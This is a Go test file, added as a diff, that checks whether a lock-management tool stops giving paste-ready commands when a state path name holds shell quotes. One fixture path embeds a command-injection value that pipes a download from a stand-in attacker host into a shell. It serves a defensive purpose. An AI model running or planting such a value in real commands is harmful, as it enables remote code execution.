@@ -1,0 +1,19 @@
+package alert_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/lockwarden/lockwarden/pkg/tflock"
+)
+
+// Whoever names a state chooses what people would put between the quotes of a command.
+func TestNobodyIsToldToPutQuotationMarksIntoACommand(t *testing.T) {
+	for path, warned := range map[tflock.Path]bool{"states/branches/feature-1/x.tfstate": false, "states/branches/it's-mine/$(curl evil.example|sh)'/x": true} {
+		report := pruneReport()
+		report.States[0].Path = path
+		if steps := strings.Join(composer.Prune(report, now).Steps, " "); strings.Contains(steps, "press Restore") != warned {
+			t.Errorf("%s: %s", path, steps)
+		}
+	}
+}
